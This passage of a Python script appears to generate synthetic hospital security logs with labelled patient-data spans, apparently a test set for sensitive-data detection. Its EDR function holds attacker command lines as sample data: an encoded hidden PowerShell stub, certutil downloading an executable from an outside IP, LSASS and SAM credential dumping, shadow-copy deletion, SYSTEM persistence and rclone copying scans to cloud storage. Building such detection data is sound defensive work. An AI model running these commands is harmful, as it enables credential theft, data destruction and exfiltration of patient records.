              "icciID": "", "imei": "", "ipAddress": R.choice(["10.60.14.88", "10.60.15.21"]), "jssID": R.randint(300, 900),
              "model": "iPad 9th Generation (Wi-Fi)", "modelDisplay": "iPad", "osBuild": "21D61", "osVersion": "17.3.1",
              "product": None, "room": R.choice(["4W-412", "5E-507", "ONC-INF-08", "HOME"]), "serialNumber": P(p.tab_serial if p.tab_serial.startswith(("DMP", "F9F")) else f"DMP{alnum(9)}", "device"),
              "udid": P(p.udid, "device"), "userDirectoryID": "-1", "username": Seg(C("pt-", P(p.mrn, "mrn"))), "version": "17.3.1",
              "wifiMacAddress": P(p.mac, "device")}
        hook = {"eventTimestamp": epoch_ms(t), "id": 7, "name": "TeleSitter iPad check-in", "webhookEvent": "MobileDeviceCheckIn"}
        return [J({"event": ev, "webhook": hook})]
    s = staff()
    if R.random() < 0.5:
        comp = {"alternateMacAddress": mac(), "building": R.choice(["Main Tower", "Cancer Center", "Ambulatory Bldg A"]),
                "department": s.dept, "deviceName": f"CVH-MBP-{R.randint(10, 999):04d}", "emailAddress": s.upn,
                "ipAddress": R.choice([s.home_ip, R.choice(NAT_IPS)]), "jssID": R.randint(100, 900), "macAddress": s.mac,
                "model": R.choice(["MacBook Pro (14-inch, 2023)", "MacBook Air (M2, 2022)"]), "osBuild": "23D60", "osVersion": "14.3.1",
                "phone": ORG_PHONE, "position": R.choice(["RN", "Analyst", "Manager", "Physician"]), "realName": f"{s.first} {s.last}",
                "room": R.choice(["3F-312", "B1-014", "4W Station"]), "serialNumber": f"C02{alnum(9)}", "udid": ruuid().upper(),
                "userDirectoryID": "-1", "username": s.user}
        hook = {"eventTimestamp": epoch_ms(t), "id": 3, "name": "Inventory to SIEM", "webhookEvent": "ComputerInventoryCompleted"}
        return [J({"event": {"computer": comp, "trigger": "CLIENT_CHECKIN"}, "webhook": hook})]
    ev = {"bluetoothMacAddress": mac(), "deviceName": f"CVH-IPH-{R.randint(100, 999):04d}", "icciID": f"8901 2605 {digits(4)} {digits(4)} {digits(3)}",
          "imei": s.imei, "ipAddress": priv_ip(), "jssID": R.randint(300, 900), "model": "iPhone 13", "modelDisplay": "iPhone",
          "osBuild": "21D61", "osVersion": "17.3.1", "phoneNumber": fmt_phone(s.phone, "dash"), "product": None,
          "room": "", "serialNumber": f"F{alnum(11)}", "udid": hexs(8, True) + "-" + hexs(16, True), "userDirectoryID": "-1",
          "username": s.user, "version": "17.3.1", "wifiMacAddress": mac()}
    hook = {"eventTimestamp": epoch_ms(t), "id": 5, "name": "Mobile check-in", "webhookEvent": "MobileDeviceCheckIn"}
    return [J({"event": ev, "webhook": hook})]


DOORS = ["CVH-MAIN-4W-ICU-E1", "CVH-MAIN-B1-PHARM-VAULT", "CVH-MAIN-1F-ED-AMB", "CVH-CC-2F-INFUSION", "CVH-MAIN-3F-DATACTR",
         "CVH-MAIN-L-LOBBY-N", "CVH-MAIN-5E-MEDSURG", "CVH-MAIN-B2-LOADDOCK"]


def fam_badge(phi):
    t = tick()
    lt = loc(t)
    if phi:
        p = pat()
        if R.random() < 0.55:
            vid = f"V-{R.randint(20000, 29999)}"
            return [C(f"{lt:%Y-%m-%dT%H:%M:%S}-05:00 lobby-kiosk-0{R.randint(1, 3)} visitor-mgmt[{R.randint(300, 900)}]: badge_printed visitor=",
                      kvq(P(p.rel_name, "name")), f" id_type=DL id_no=", P(p.rel_dl, "license"), " id_state=IA visiting=",
                      kvq(pname(p, "Lf")), f" room={R.choice(['4W-412', '5E-507', 'ICU-11', 'L&D-3'])} relationship={p.rel} host_unit=4W-MED badge={vid} expires={lt:%Y-%m-%d}T20:00:00-05:00")]
        return [C(f"{lt:%Y-%m-%d %H:%M:%S} garage-P2-lpr0{R.randint(1, 3)} LPR read plate=", P(p.plate.replace(" ", ""), "vehicle"),
                  f" state=IA conf=0.{R.randint(86, 99)} lane=P2-{R.choice(['IN', 'OUT'])}-1 permit=NONE validation=PATIENT guest=",
                  kvq(pname(p, "LF")), f" clinic=\"{R.choice(['Cancer Center', 'Dialysis', 'Wound Clinic'])}\" validated_by=frontdesk_cc result=GATE_OPEN")]
    r = R.random()
    s = staff()
    if r < 0.6:
        ev = R.choice(["ACCESS GRANTED", "ACCESS GRANTED", "ACCESS GRANTED", "ACCESS DENIED - INVALID TIME ZONE", "DOOR FORCED OPEN", "DOOR HELD OPEN"])
        return [C(f"{lt:%m/%d/%Y %H:%M:%S},{ev},\"{s.last.upper()}, {s.first.upper()}\",{s.badge},{R.choice(DOORS)},Reader {R.randint(1, 40)},Panel LNL-3300-0{R.randint(1, 8)},Employee,{s.dept}")]
    if r < 0.8:
        plate = f"{alnum(3, 'ABCDEFGHJKLMNPRSTVWXYZ')}{digits(3)}"
        return [C(f"{lt:%Y-%m-%d %H:%M:%S} garage-P2-lpr0{R.randint(1, 3)} LPR read plate={plate} state=IA conf=0.{R.randint(86, 99)} lane=P2-{R.choice(['IN', 'OUT'])}-1 permit=STAFF-{R.randint(1000, 9999):05d} validation=NONE result=GATE_OPEN")]
    return [C(f"{lt:%Y-%m-%dT%H:%M:%S}-05:00 imprivata-ote01 OneSign[{R.randint(1000, 9000)}]: event=ProxCardLogin user=CVH\\{s.user} endpoint={s.host} card={s.badge} app=\"Epic Hyperspace\" result=Success")]


def fam_vpn(phi):
    t = tick()
    s = staff()
    lt = loc(t)
    ip = s.home_ip
    if R.random() < 0.55:
        grp = R.choice(["CVH-Staff-VPN", "CVH-Vendor-VPN", "CVH-IT-Admin"])
        pre = f"<166>{lt:%b %d %Y %H:%M:%S} cvh-asa01 : "
        m = R.choice([f"%ASA-6-113039: Group <{grp}> User <{s.user}> IP <{ip}> AnyConnect parent session started.",
                      f"%ASA-4-722051: Group <{grp}> User <{s.user}> IP <{ip}> IPv4 Address <10.250.{R.randint(0, 7)}.{R.randint(2, 250)}> IPv6 address <::> assigned to session",
                      f"%ASA-5-722037: Group <{grp}> User <{s.user}> IP <{ip}> SVC closing connection: DPD failure.",
                      f"%ASA-6-113004: AAA user authentication Successful : server =  10.20.4.11 : user = {s.user}",
                      f"%ASA-6-716002: Group <{grp}> User <{s.user}> IP <{ip}> WebVPN session terminated: User Requested.",
                      f"%ASA-4-113019: Group = {grp}, Username = {s.user}, IP = {ip}, Session disconnected. Session Type: SSL, Duration: 0h:{R.randint(1, 59):02d}m:{R.randint(0, 59):02d}s, Bytes xmt: {R.randint(10000, 90000000)}, Bytes rcv: {R.randint(10000, 9000000)}, Reason: Idle Timeout"])
        return [C(pre + m)]
    ts = f"{lt:%Y/%m/%d %H:%M:%S}"
    ev = R.choice(["gateway-connected", "gateway-auth", "portal-auth", "gateway-logout"])
    return [C(f"1,{ts},013101009876,GLOBALPROTECT,0,2817,{ts},vsys1,{ev},{'connected' if ev == 'gateway-connected' else 'login'},,IPSec,{s.user},US,{s.host},{ip},0.0.0.0,10.250.{R.randint(0, 7)}.{R.randint(2, 250)},0.0.0.0,{hexs(32)},{s.serial},6.2.1,Windows,\"Microsoft Windows 11 Enterprise , 64-bit\",1,,,,success,,0,,0,CVH-GP-Gateway,{R.randint(7000000, 7999999)},0x0")]


def edr_cmd(phi, s):
    if phi:
        p = pat()
        k = R.randrange(8)
        if k == 0:
            return C('"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "\\\\cvh-fs01\\HIM$\\ROI\\2024\\03\\', pname(p, "l_f"), "_MRN", P(p.mrn, "mrn"), '\\Records_Request.docx" /o ""')
        if k == 1:
            return C("powershell.exe -NoProfile -Command \"Compress-Archive -Path '\\\\cvh-fs01\\Cardiology$\\Device Clinic\\", pname(p, "lf_nocomma"), " ", P(p.mrn, "mrn"), "\\*' -DestinationPath $env:TEMP\\dc.zip\"")
        if k == 2:
            q = C("guarantorAcct=", P(p.acct, "account"), "&lastName=", urlq(P(p.last, "name")), "&dob=", P(dfmt(p.dob, "iso"), "date"))
            return C('curl.exe -k -s "https://mychart.cvhealth.org/MyChart/api/billing/statement?', q, f'" -o C:\\Users\\{s.user}\\Downloads\\stmt.pdf')
        if k == 3:
            return C('"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --single-argument ', P(p.page, "url"))
        if k == 4:
            return C('rclone.exe copy "D:\\Scans\\', phi_filename(p), '" gdrive:backup --progress')
        if k == 5:
            return C('findstr /s /i /m "', P(p.ssn, "ssn"), '" \\\\cvh-fs01\\PFS$\\Collections\\*.csv')
        if k == 6:
            return C("sqlcmd.exe -S cvh-sql04 -d Clarity -Q \"SELECT PAT_ID, PAT_NAME, BIRTH_DATE FROM PATIENT WHERE PAT_MRN_ID='", P(p.mrn, "mrn"), "' OR PAT_NAME LIKE '", P(p.last.upper(), "name"), ",%'\"")
        q = C("mrn=", P(p.mrn, "mrn"), "&name=", urlq(pname(p, "fl"), plus=True), "&email=", urlq(P(p.email, "email")))
        return C('"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -osint -url "https://pastebin.com/raw/', alnum(8), "?", q, '"')
    k = R.randrange(9)
    return C([
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "certutil.exe -urlcache -split -f http://185.193.126.77/p/a.exe C:\\ProgramData\\svc.exe",
        "rundll32.exe C:\\ProgramData\\Intel\\igfx.dll,DllRegisterServer",
        "wmic.exe shadowcopy delete /nointeractive",
        'net.exe group "Domain Admins" /domain',
        'schtasks.exe /create /tn "EpicUpdate" /tr C:\\Users\\Public\\up.bat /sc onlogon /ru SYSTEM',
        "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save",
        "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp",
        f"AnyDesk.exe --install \"C:\\Program Files (x86)\\AnyDesk\" --start-with-win --silent --update-disabled --remove-first",
    ][k])


def fam_crowdstrike(phi):
    t = tick()
    s = staff()
    cmd = edr_cmd(phi, s)
    m = re.search(r"([A-Za-z0-9_]+\.exe)", plain(cmd), re.I)
    exe = m.group(1) if m else plain(cmd).split(" ")[0] + ".exe"
    det = R.choice([("Exfiltration", "Exfiltration Over Web Service", "A process staged or uploaded sensitive files."),
                    ("Collection", "Archive Collected Data", "A process compressed files from a sensitive share."),
                    ("Discovery", "File and Directory Discovery", "A process searched file shares for sensitive patterns."),
                    ("Credential Access", "OS Credential Dumping", "A process accessed credential material."),
                    ("Execution", "PowerShell", "A suspicious command line was observed.")])
    ev = {"ProcessStartTime": epoch(t) - R.randint(1, 30), "ProcessEndTime": 0, "ProcessId": int(digits(12).lstrip("0") or "9"),
          "ParentProcessId": int(digits(12).lstrip("0") or "9"), "ComputerName": s.host, "UserName": s.user,
          "DetectName": det[1], "DetectDescription": det[2], "Severity": R.randint(2, 5), "SeverityName": R.choice(["Low", "Medium", "High", "Critical"]),
          "FileName": exe, "FilePath": "\\Device\\HarddiskVolume3\\Windows\\System32", "CommandLine": Seg(cmd),
          "SHA256String": hexs(64), "MD5String": hexs(32), "SHA1String": "0000000000000000000000000000000000000000",
          "MachineDomain": "CVH", "DetectId": f"ldt:{hexs(32)}:{R.randint(10 ** 10, 10 ** 11)}",
          "FalconHostLink": f"https://falcon.us-2.crowdstrike.com/activity/detections/detail/{hexs(32)}/{R.randint(10 ** 10, 10 ** 11)}",
          "LocalIP": priv_ip(), "MACAddress": s.mac.replace(":", "-").lower(), "Tactic": det[0], "Technique": det[1],
          "Objective": R.choice(["Falcon Detection Method", "Gain Access", "Follow Through"]), "PatternDispositionValue": R.choice([0, 16, 2048]),
          "SensorId": hexs(32)}
    rec = {"metadata": {"customerIDString": "c1a7f0e2b9d44e58a3f6b21d07c9e4aa", "offset": R.randint(100000, 999999),
                        "eventType": "DetectionSummaryEvent", "eventCreationTime": epoch_ms(t), "version": "1.0"},
           "event": ev}
    return [J(rec)]


def fam_cef(phi):
    t = tick()
    s = staff()
    host = R.choice(["arcsight-conn01", "arcsight-conn02"])
    pre = f"<134>{sys_ts(t)} {host} "
    kind = R.choice(["dlp", "dlp", "edr", "print", "waf"])
    if kind == "waf":
        if phi:
            p = pat()
            src_ip, suser = P(p.ip, "ip"), P(p.portal, "other_id")
        else:
            src_ip, suser = C(R.choice(["45.155.205.233", "185.220.101.47", "20.118.44.9"])), C(R.choice(["", "admin", "healthcheck"]))
        hdr = f"CEF:0|F5|Advanced WAF|16.1.4|{R.choice(['200021069', '200000098', '200101559'])}|{R.choice(['Login Page Brute Force', 'Illegal Session', 'Credential Stuffing'])}|{R.randint(3, 7)}|"
        ext = C(f"rt={epoch_ms(t)} dvchost=cvh-waf01 src=", src_ip, f" spt={R.randint(20000, 65000)} dst=10.30.2.40 dpt=443 suser=", suser,
                f" request=/MyChart/Authentication/Login requestMethod=POST act={R.choice(['alerted', 'blocked', 'passed'])} cs1Label=policy_name cs1=/Common/MyChart_ASM cs2Label=support_id cs2={digits(19)}")
        return [C(pre, hdr, ext)]
    if kind == "dlp":
        p = pat() if phi else None
        fn = phi_filename(p) if phi else clean_filename()
        snip = snip_any(p) if phi and R.random() < 0.6 else None
        ext = C(f"rt={epoch_ms(t)} suser={s.upn} shost={s.host} src={priv_ip()} fname=", cef_ext(fn),
                f" fsize={R.randint(9000, 900000)} act={R.choice(['Block', 'Alert', 'Allow'])} app={R.choice(['Google Drive', 'Dropbox', 'Gmail'])}",
                f" cs1Label=dlpProfile cs1={'CVH-HIPAA-PHI' if phi else 'CVH-Confidential'} cs2Label=dlpRule cs2={R.choice(['US-SSN-Strict', 'PHI-Name+DOB', 'PCI-PAN'])}")
        if snip is not None:
            ext = C(ext, " cs3Label=matchedSnippet cs3=", cef_ext(snip))
        ext = C(ext, f" cn1Label=incidentId cn1={digits(16).lstrip('0')}")
        hdr = f"CEF:0|Netskope|Netskope Security Cloud|v1|DLP|{cef_hdr('DLP Policy Violation | Upload')}|{8 if phi else 5}|"
        return [C(pre, hdr, ext)]
    if kind == "edr":
        cmd = edr_cmd(phi, s)
        hdr = f"CEF:0|CrowdStrike|FalconHost|1.0|DetectionSummaryEvent|{R.choice(['Suspicious Activity', 'Exfiltration Over Web Service', 'Archive Collected Data'])}|{R.randint(3, 9)}|"
        ext = C(f"rt={epoch_ms(t)} dhost={s.host} duser={s.user} dvc={priv_ip()} cs1Label=CommandLine cs1=", cef_ext(cmd),
                f" fileHash={hexs(64)} cs5Label=FalconHostLink cs5=https://falcon.us-2.crowdstrike.com/activity/detections/detail/{hexs(32)}")
        return [C(pre, hdr, ext)]
    # print
    if phi:
        p = pat()
        doc = R.choice([lambda: C("Face Sheet - ", pname(p, "LF")), lambda: phi_filename(p),
                        lambda: C("Lab Requisition ", P(p.mrn, "mrn"), " DOB ", P(dfmt(p.dob, "us"), "date"))])()
    else:
        doc = C(R.choice(["Epic - After Visit Summary", "Census_4West_2024-03-11.xlsx", "Microsoft Word - Document1"]))
    hdr = "CEF:0|Microsoft|Microsoft Windows||Microsoft-Windows-PrintService:307|Printing a document|Low|"
    ext = C(f"rt={epoch_ms(t)} dvchost=cvh-prt02.cvhealth.org suser={s.user} shost={s.host} fname=", cef_ext(doc),
            f" cs1Label=Printer cs1={R.choice(PRINTERS)} cn1Label=Pages cn1={R.randint(1, 20)} fsize={R.randint(9000, 900000)}")
    return [C(pre, hdr, ext)]


def fam_leef(phi):
    t = tick()
    s = staff()
    lt = loc(t)
    if R.random() < 0.5:
        # LEEF 2.0 caret-delimited, Purview DLP via QRadar DSM
        p = pat() if phi else None
        fn = phi_filename(p) if phi else clean_filename()
        parts = C(f"devTime={lt:%b %d %Y %H:%M:%S}^devTimeFormat=MMM dd yyyy HH:mm:ss^cat=DlpRuleMatch^usrName={s.upn}^src={priv_ip()}^fileName=", fn,
                  f"^policy={'U.S. HIPAA Enhanced' if phi else 'CVH - PCI DSS'}^sev={R.randint(3, 8)}^workload={R.choice(['OneDrive', 'SharePoint', 'Exchange'])}")
        if phi and R.random() < 0.5:
            parts = C(parts, "^recipient=", P(p.email, "email"))
        return [C(f"<13>{sys_ts(t)} qradar-ec01 LEEF:2.0|Microsoft|Office 365|1.0|DlpRuleMatch|^|", parts)]
    # LEEF 1.0 tab-delimited: badge / visitor
    if phi:
        p = pat()
        parts = C(f"devTime={lt:%Y-%m-%d %H:%M:%S}\tcat=VisitorCheckIn\tusrName=", P(p.rel_name, "name"), "\tvisiting=", pname(p, "Lf"),
                  f"\trelationship={p.rel}\tphone=", P(fmt_phone(p.rel_phone, "dash"), "phone"), f"\tbadge=V-{R.randint(20000, 29999)}\tsrc=10.12.4.{R.randint(10, 40)}")
        return [C(f"<14>{sys_ts(t)} qradar-ec01 LEEF:1.0|Lenel|OnGuard Visitor|8.0|VISITOR_SIGNIN|", parts)]
    ev = R.choice(["ACCESS_GRANTED", "ACCESS_DENIED", "DOOR_FORCED"])
    return [C(f"<14>{sys_ts(t)} qradar-ec01 LEEF:1.0|Lenel|OnGuard|8.0|{ev}|devTime={lt:%Y-%m-%d %H:%M:%S}\tcat=Access\tusrName={s.user}\tcardNumber={s.badge}\tdoor={R.choice(DOORS)}\tpanel=LNL-3300-0{R.randint(1, 8)}\tsrc=10.12.4.{R.randint(10, 40)}")]


def fam_ecs(phi):
    t = tick()
    s = staff()
    k = R.random()
    if phi and k < 0.45 or (not phi and k < 0.15):
        # patient portal auth through WAF
        if phi:
            p = pat()
            user = P(p.portal, "other_id")
            ip = P(p.ip, "ip")
            outcome = R.choice(["success", "success", "failure"])
        else:
            user = C(R.choice(["admin", "test", "root", "guest"]))
            ip = C(R.choice(["45.155.205.233", "185.220.101.47", "194.26.29.15"]))  # credential-stuffing bots
            outcome = "failure"
        rec = {"@timestamp": iso_z(t, 3), "event": {"kind": "event", "category": ["authentication"], "type": ["start"],
                                                     "dataset": "mychart.auth", "outcome": outcome, "module": "f5"},
               "observer": {"vendor": "F5", "product": "Advanced WAF", "hostname": "cvh-waf01"},
               "source": {"ip": ip, "port": R.randint(20000, 65000), "geo": {"country_iso_code": "US" if phi else R.choice(["NL", "DE", "RU"])}},
               "destination": {"ip": "10.30.2.40", "port": 443},
               "user": {"name": user}, "url": {"domain": "mychart.cvhealth.org", "path": "/MyChart/Authentication/Login"},
               "http": {"request": {"method": "POST"}, "response": {"status_code": 302 if outcome == "success" else 200}},
               "user_agent": {"original": R.choice(["Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
                                                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
                                                    "python-requests/2.31.0"])},
               "trace": {"id": hexs(32)}}
        return [J(rec)]
    if k < 0.75:
        p = pat() if phi else None
        fn = phi_filename(p) if phi else clean_filename()
        path = C(R.choice([f"\\\\cvh-fs01\\HIM$\\Scans\\", f"C:\\Users\\{s.user}\\Downloads\\", "E:\\"]), fn)
        rec = {"@timestamp": iso_z(t, 3), "event": {"kind": "alert", "category": ["file"], "type": ["access"], "action": "dlp-rule-match",
                                                     "dataset": "purview.endpoint", "severity": R.randint(21, 73)},
               "rule": {"name": "U.S. HIPAA Enhanced" if phi else "CVH - Confidential Label"},
               "host": {"name": s.host, "ip": [priv_ip()]}, "user": {"name": s.user, "email": s.upn, "domain": "CVH"},
               "file": {"name": Seg(fn), "path": Seg(path), "extension": plain(fn).rsplit(".", 1)[-1], "size": R.randint(9000, 900000)},
               "observer": {"vendor": "Microsoft", "product": "Purview DLP"}, "tags": ["dlp", "endpoint"]}
        if phi and R.random() < 0.4:
            rec["purview"] = {"evidence": {"excerpt": Seg(snip_any(p))}}
        return [J(rec, sep=(", ", ": "))]
    # VPN / auth normalised
    rec = {"@timestamp": iso_z(t, 3), "event": {"kind": "event", "category": ["authentication", "network"], "type": ["start"],
                                                 "dataset": "cisco.asa", "code": "113039", "outcome": "success"},
           "source": {"ip": s.home_ip}, "user": {"name": s.user, "full_name": f"{s.first} {s.last}"},
           "observer": {"vendor": "Cisco", "product": "ASA", "hostname": "cvh-asa01"},
           "cisco": {"asa": {"tunnel_group": "CVH-Staff-VPN"}}}
    return [J(rec, sep=(", ", ": "))]


FAMILIES = {
    "purview_json": (fam_purview, 3, 3),
    "netskope_json": (fam_netskope, 3, 2),
    "proofpoint_pps": (fam_pps, 0.6, 0.4),
    "cisco_esa": (fam_esa, 0.35, 0.25),
    "win_print_307": (fam_win_print, 2, 2),
    "papercut": (fam_papercut, 2, 2),
    "fax_server": (fam_fax, 2, 1),
    "endpoint_dlp_kv": (fam_epdlp, 3, 2),
    "mde_json": (fam_mde, 1.5, 2),
    "intune_json": (fam_intune, 1.2, 2),
    "jamf_json": (fam_jamf, 0.8, 2),
    "badge_lpr": (fam_badge, 1.5, 3),
    "vpn": (fam_vpn, 0, 3),
    "crowdstrike_json": (fam_crowdstrike, 2, 1.5),
    "cef": (fam_cef, 2, 2),
    "leef": (fam_leef, 1.5, 1.5),
    "ecs_json": (fam_ecs, 3, 2),
}


def pick(phi):
    names = list(FAMILIES)
    w = [FAMILIES[n][1] if phi else FAMILIES[n][2] for n in names]
    return R.choices(names, weights=w)[0]


def main():
    lines = []
    clean = 0
    while len(lines) < N_LINES:
        frac_clean = clean / len(lines) if lines else 0.0
        want_phi = frac_clean >= TARGET_CLEAN
        fam = pick(want_phi)
        segs = FAMILIES[fam][0](want_phi)
        remaining = N_LINES - len(lines)
        if len(segs) > remaining:
            continue
        for seg in segs:
            ln = Line(fam, seg)
            lines.append(ln)
            if not ln.spans:
                clean += 1
    assert len(lines) == N_LINES
    log_path = os.path.join(HERE, "dq.log")
    lab_path = os.path.join(HERE, "dq.labels.jsonl")
    with open(log_path, "wb") as f:
        for ln in lines:
            f.write(bytes(ln.b) + b"\n")
    with open(lab_path, "w", encoding="utf-8", newline="\n") as f:
        for i, ln in enumerate(lines, 1):
            prev = -1
            spans = []
            for s, e, c, bt in sorted(ln.spans):
                assert c in CATS, c
                assert s >= prev, ("overlap", i)
                assert bytes(ln.b[s:e]) == bt
                prev = e
                spans.append({"s": s, "e": e, "cat": c})
            f.write(json.dumps({"line": i, "family": ln.family, "spans": spans}) + "\n")
    # self-check: re-read the written file
    data = open(log_path, "rb").read().split(b"\n")
    assert data[-1] == b"" and len(data) == N_LINES + 1
    for i, ln in enumerate(lines):
        assert data[i] == bytes(ln.b)
        data[i].decode("utf-8")
        assert len(data[i]) <= 4000


if __name__ == "__main__":
    main()
